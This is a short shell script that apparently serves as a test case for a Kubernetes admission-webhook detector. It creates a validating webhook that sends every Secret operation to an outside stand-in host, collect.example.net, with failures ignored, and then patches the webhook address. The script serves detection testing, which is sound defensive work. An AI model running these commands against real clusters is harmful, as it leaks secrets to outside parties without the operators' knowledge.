# Secrets are sent to a server outside of the cluster: by an admission webhook, and by one whose address is patched.
#
# may: create,get,patch validatingwebhookconfigurations
# also: admission-webhook-changed: it reports every webhook that is written

kubectl create --filename - <<YAML
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: $NAME}
webhooks:
  - name: policy.example.com
    clientConfig: {url: "https://collect.example.net/secrets"}
    namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: $NAME}}
    rules: [{apiGroups: [""], apiVersions: [v1], resources: [secrets], operations: ["*"]}]
    failurePolicy: Ignore
    sideEffects: None
    admissionReviewVersions: [v1]
YAML
kubectl patch validatingwebhookconfiguration "$NAME" --type=json --patch '[
  {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://collect.example.net/all"}}]'
